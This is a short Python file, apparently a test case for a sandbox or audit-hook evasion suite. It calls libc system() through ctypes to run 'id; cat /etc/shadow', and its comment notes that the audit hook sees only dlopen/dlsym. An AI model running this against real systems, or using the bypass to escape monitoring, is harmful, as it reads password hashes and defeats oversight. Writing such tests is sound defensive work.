# attack: ctypes_system
# category: ctypes_libc
# kind: ctypes
# describe: libc system() through ctypes, which the audit hook sees only as dlopen/dlsym
import ctypes
ctypes.CDLL(None).system(b"id; cat /etc/shadow")
